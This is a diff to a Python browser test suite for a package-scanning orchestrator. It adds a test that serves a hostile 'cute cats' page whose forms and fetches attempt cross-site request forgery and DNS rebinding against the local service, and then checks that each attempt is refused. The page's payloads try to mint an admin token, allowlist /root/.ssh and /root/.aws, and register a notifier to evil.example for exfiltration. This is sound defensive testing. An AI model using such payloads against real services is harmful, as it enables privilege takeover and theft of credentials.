@@ -52,12 +52,12 @@ class Browser:
     every C{confirm()} dialog.
     """
 
-    def __init__(self, executable: str = CHROMIUM) -> None:
+    def __init__(self, executable: str = CHROMIUM, extraFlags: Optional[List[str]] = None) -> None:
         import websocket  # websocket-client
 
         self.profile = tempfile.mkdtemp(prefix="fangs-chromium-")
         self.proc = subprocess.Popen(
-            [executable, *CHROMIUM_FLAGS, "--user-data-dir=" + self.profile, "about:blank"],
+            [executable, *CHROMIUM_FLAGS, *(extraFlags or []), "--user-data-dir=" + self.profile, "about:blank"],
             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True,
         )
         url = self._devtoolsURL()
@@ -272,7 +272,10 @@ class Scenario:
 
     async def call(self, method: str, path: str, body: Any = None, raw: Optional[bytes] = None) -> Any:
         data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
-        r = await self.client.request(method, self.url + path, data=data)
+        headers = None
+        if data is not None:
+            headers = {"Content-Type": ["application/x-ndjson" if path.endswith("/events") else "application/json"]}
+        r = await self.client.request(method, self.url + path, data=data, headers=headers)
         content = await r.content()
         assert r.code < 300, (method, path, r.code, content[:500])
         return json.loads(content) if content.strip() else None
@@ -411,3 +414,117 @@ class BrowserTests(TestCase):
         shown = b.evaluate("Object.fromEntries(Array.from(document.querySelectorAll('tr[data-run]')).map(r => [r.dataset.run, r.querySelector('.verdict .badge').innerText]))")
         assert shown[runs["bad1"]] == "baseline" and shown[runs["bad2"]] == "rejected", shown
         return {"promoted": promoted, "rejected": rejected}
+
+
+# ---------------------------------------------------------------------------
+# A hostile page in the same browser
+
+
+ATTACK_PAGE = """<!doctype html><html><head><title>cute cats</title></head><body>
+<form id="f1" method="POST" action="%(base)s/v1/tokens" enctype="text/plain" target="sink">
+<input name='{"name":"evil-form","scopes":["orchestrator:admin"],"pad":"' value='"}'></form>
+<form id="f2" method="POST" action="%(base)s/v1/allow" enctype="application/x-www-form-urlencoded" target="sink2">
+<input name="kind" value="path"><input name="value" value="/root/.ssh/"></form>
+<iframe name="sink"></iframe><iframe name="sink2"></iframe>
+<script>
+async function attack() {
+  const base = "%(base)s";
+  const out = [];
+  const tries = [
+    [base + "/v1/allow", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
+                          body: JSON.stringify({kind: "path", value: "/root/.aws/"})}],
+    [base + "/v1/packages", {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify({name: "evil-pkg"})])}],
+    [base + "/v1/notifiers", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
+                              body: JSON.stringify({name: "exfil", url: "https://evil.example/"})}],
+    [base + "/v1/runs/%(run)s/cancel", {method: "POST", mode: "no-cors"}],
+    [base + "/v1/tokens", {method: "POST", headers: {"Content-Type": "application/json"},
+                           body: JSON.stringify({name: "evil-cors", scopes: ["orchestrator:admin"]})}],
+  ];
+  for (const [url, opts] of tries) {
+    try { await fetch(url, opts); out.push("sent"); } catch (e) { out.push("blocked"); }
+  }
+  document.getElementById("f1").submit();
+  document.getElementById("f2").submit();
+  return out;
+}
+</script></body></html>"""
+
+
+class CrossSiteTests(TestCase):
+    """
+    A page on another site (a name Chromium resolves to loopback) attacks an
+    orchestrator running with --auth none: text/plain and urlencoded forms,
+    no-cors fetches, a CORS fetch; then the same page rebinds its own name
+    to the orchestrator.  Nothing changes, and a rebound Host is refused.
+    """
+
+    timeout = 120
+
+    def setUp(self) -> None:
+        BrowserTests.setUp(self)  # type: ignore[arg-type]
+
+    def test_crossSiteAndRebinding(self) -> Deferred:
+        return Deferred.fromCoroutine(self._crossSite())
+
+    async def _crossSite(self) -> None:
+        from twisted.internet import reactor
+        from twisted.web.resource import Resource
+        from twisted.web.server import Site
+
+        client = httpClient(self)
+        orch = OrchestratorProcess(self, extra=["--watch-interval", "0", "--auth", "none"])
+        await orch.startAndWait(client)
+        scenario = Scenario(client, orch.url)
+        await scenario.call("POST", "/v1/runners/register", {"runner_id": "runner-a", "proto_version": 1})
+        queued = await scenario.call("POST", "/v1/scans", {"target_runner": "runner-a", "Job": {
+            "kind": "sandbox_scan", "package_name": "left-pad", "version": "1.3.0", "sandbox": {}}})
+
+        page = (ATTACK_PAGE % {"base": orch.url, "run": queued["run_id"]}).encode()
+
+        class Attacker(Resource):
+            isLeaf = True
+
+            def render_GET(self, request: Any) -> bytes:
+                request.setHeader(b"Content-Type", b"text/html; charset=utf-8")
+                return page
+
+        listening = reactor.listenTCP(0, Site(Attacker()), interface="127.0.0.1")
+        self.addCleanup(listening.stopListening)
+        attackerURL = "http://attacker.test:%d/" % (listening.getHost().port,)
+        rules = "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1"
+        browser = await deferToThread(Browser, CHROMIUM, [rules])
+        self.addCleanup(lambda: deferToThread(browser.close))
+
+        def drive() -> Dict[str, Any]:
+            browser.navigate(attackerURL)
+            assert browser.evaluate("document.title") == "cute cats"
+            sent = browser.evaluate("attack()")
+            browser.idle(2.0)
+            # Rebinding: the attacker's own name now points at the orchestrator.
+            rebound = orch.url.replace("127.0.0.1", "rebind.test")
+            browser.navigate(rebound + "/v1/runs")
+            readText = browser.evaluate("document.body.innerText")
+            status = browser.evaluate(
+                "fetch('/v1/packages', {method: 'POST', headers: {'Content-Type': 'application/json'},"
+                " body: JSON.stringify({name: 'rebound-pkg'})}).then(r => r.status)"
+            )
+            return {"sent": sent, "read": readText, "status": status}
+
+        outcome = await deferToThread(drive)
+        self.assertEqual(len(outcome["sent"]), 5, outcome)
+        self.assertIn("unknown_host", outcome["read"])
+        self.assertNotIn('"runs"', outcome["read"])
+        self.assertEqual(outcome["status"], 403)
+        tokens = await scenario.call("GET", "/v1/tokens")
+        self.assertEqual(tokens["tokens"], [])
+        allow = await scenario.call("GET", "/v1/allow")
+        self.assertEqual([e for e in allow["entries"] if e["source"] == "operator"], [])
+        self.assertEqual((await scenario.call("GET", "/v1/packages"))["packages"], [])
+        self.assertEqual((await scenario.call("GET", "/v1/notifiers"))["notifiers"], [])
+        run = await scenario.call("GET", "/v1/runs/" + queued["run_id"])
+        self.assertFalse(run["cancel_requested"])
+        self.assertEqual(run["state"], "pending")
+        # The orchestrator's log names each refusal.
+        log = orch.log()
+        self.assertIn("cross_origin", log)
+        self.assertIn("unknown_host", log)
